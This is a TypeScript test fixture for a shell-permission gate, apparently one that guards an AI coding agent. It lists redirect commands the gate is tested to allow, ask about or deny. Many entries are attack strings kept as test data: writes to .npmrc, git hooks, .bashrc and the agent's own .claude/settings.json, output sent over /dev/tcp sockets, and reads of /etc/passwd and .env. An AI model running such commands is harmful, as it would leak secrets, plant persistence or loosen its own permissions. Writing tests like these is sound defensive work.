// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are bash's.
import { lines } from "../lines.ts";
import { type AttackGroup, combine } from "./fixture.ts";

const outputs = [
  ...lines`
    ls > %% ¦ ls >> %% ¦ ls >| %% ¦ ls &> %% ¦ ls &>> %% ¦ ls >& %% ¦ ls 2> %% ¦ ls 3<> %% ¦ >%% ls
  `,
];

const protectedOrOutside = lines`
  .npmrc ¦ ./.npmrc ¦ ".npmrc" ¦ .np''mrc ¦ src/.NPMRC ¦ .git/config ¦ .Git/hooks/pre-commit ¦ link-npmrc
  link-husky/x ¦ /etc/x ¦ ../out/x ¦ link-out/x ¦ link-secret ¦ dangling-out ¦ /dev/tcp/127.0.0.1/80
  /dev/udp/127.0.0.1/80 ¦ /dev/sda ¦ /proc/self/root/tmp/x
`;

/** §5.10. */
export const redirects: readonly AttackGroup[] = [
  {
    about: "output to protected, outside and special targets, with everything allowed but bypass",
    mode: "acceptEdits",
    rules: { allow: ["Bash(ls:*)", "Read", "Edit(/**)"] },
    ask: combine(outputs, protectedOrOutside),
  },
  {
    about: "output to protected targets under bare Bash",
    rules: { allow: ["Bash"] },
    ask: combine(
      ["ls > %%", "x=1 > %%", "{ ls; } >> %%", "(ls) > %%", "f() { ls; } > %%; f", "ls | cat > %%"],
      [".npmrc", ".git/config", ".BASHRC", "src/.envrc", "link-npmrc", ".claude/settings.json"],
    ),
  },
  {
    about: "output that is not known, or not from here",
    mode: "acceptEdits",
    ask: lines`
      ls > $x ¦ ls > "$x" ¦ ls > \${x} ¦ ls > $(echo x) ¦ ls > \`echo x\` ¦ ls > ~/x ¦ ls > ~ ¦ ls > ~root/x
      ls > x* ¦ ls > x? ¦ ls > [x] ¦ ls > x{a,b} ¦ ls {fd}> x ¦ ls {fd}>> x ¦ ls {PATH}> x ¦ cd src; ls > x
      cd src && ls > x ¦ (cd src; ls > x) ¦ cd src; ls 2> x ¦ ls > /dev/tcp/a/80 ¦ ls > /dev/udp/a/80
      ls 2> /dev/tcp/a/80 ¦ cat < /dev/tcp/a/80 ¦ exec > x ¦ exec 3> x ¦ exec 3<> x ¦ exec 3<> /dev/tcp/a/80
      ls > $HOME/x ¦ ls > "$PWD/../x" ¦ for f in a; do ls > $f; done ¦ ls > x > .npmrc ¦ ls > .npmrc > x
      ls 1> x 2> .npmrc ¦ ls &> .npmrc 2> /dev/null ¦ if ls; then ls; fi > .npmrc ¦ while ls; do ls; done > .npmrc
      for f in a; do ls; done >> .npmrc ¦ case x in x) ls;; esac > .npmrc ¦ { ls; } > .npmrc ¦ (ls) > .npmrc
      [[ a = a ]] > .npmrc ¦ ((1)) > .npmrc ¦ > .npmrc ¦ > ../out/x ¦ : > .npmrc ¦ echo x > docs/.husky/y
      cat <<< x > .npmrc ¦ echo "$(ls > .npmrc)" ¦ cat <(ls > .npmrc) ¦ ls > >(cat > .npmrc)
    `,
    allow: lines`
      ls > x ¦ ls >> docs/x.md ¦ ls 2> x ¦ ls &> x ¦ ls > "with blank" ¦ echo x > src/new.ts
      cat README.md > copy.md ¦ grep -rn x src > found.txt ¦ ls > link-in/x ¦ cat <<< x > y
      ls > .claude/worktrees/one/x
    `,
  },
  {
    about: "output in default mode, and under an Edit rule",
    tier: "both",
    rules: { allow: ["Edit(out/**)"] },
    allow: lines`
      ls > out/x ¦ ls >> ./out/deep/x ¦ ls 2> out/x
    `,
    ask: lines`
      ls > x ¦ ls > out.txt ¦ ls > out/../x ¦ ls > outs/x ¦ ls > src/out/x ¦ echo x | cat > x ¦ ls 2>> x ¦ ls &> x
      ls <> x ¦ ls 1<> x ¦ ls > out/x > y
    `,
  },
  {
    about: "free redirects and input",
    tier: "both",
    allow: lines`
      ls > /dev/null ¦ ls 2> /dev/null ¦ ls &> /dev/null ¦ ls >& /dev/null ¦ ls >> /dev/null ¦ ls 2>&1 ¦ ls >&2
      ls 2>&1 >/dev/null ¦ ls 1>&2 2>/dev/null ¦ ls > /dev/null 2>&1 ¦ grep -rn x src 2>/dev/null | head
      cat < README.md ¦ wc -l < src/a.ts ¦ sort < data/list.txt | uniq -c ¦ cat <<< hello ¦ cat 0< README.md
      tr a-z A-Z <<< hello ¦ cd src && ls 2>/dev/null ¦ { ls; pwd; } 2>/dev/null ¦ (cd src && ls) > /dev/null
    `,
    ask: lines`
      cat < /etc/passwd ¦ cat < ../out/secret.txt ¦ cat < ~/.bashrc ¦ cat < link-secret ¦ cat 3< /etc/passwd
      cat 0< ../out/secret.txt ¦ cat < link-out/secret.txt ¦ ls < /etc/passwd ¦ true < /dev/tcp/a/80
      { cat; } < /etc/passwd ¦ (cat) < ../out/secret.txt ¦ if cat; then ls; fi < /etc/passwd ¦ ls > /dev/null > x
      ls > /dev/nul ¦ ls > /dev/null/../x ¦ ls 2> "/dev/null " ¦ ls >&x ¦ ls >& x 2>&1
    `,
  },
  {
    about: "input and output under Read and Edit denies",
    rules: { allow: ["Bash"], deny: ["Read(.env)", "Edit(docs/**)"] },
    deny: lines`
      cat < .env ¦ cat 0<.env ¦ ls > .env ¦ ls >> sub/.env ¦ { cat; } < .env ¦ (cat) < ./.env ¦ ls < link-env
      ls > docs/x ¦ ls 2> docs/x ¦ ls >| docs/x ¦ ls &> docs/x ¦ ls <> docs/x ¦ echo "$(cat < .env)"
      cat <(cat < .env) ¦ while cat; do ls; done < .env ¦ : > docs/guide.md ¦ > docs/guide.md
    `,
    allow: lines`
      cat < README.md ¦ ls > x ¦ make > build.log 2>&1
    `,
  },
];
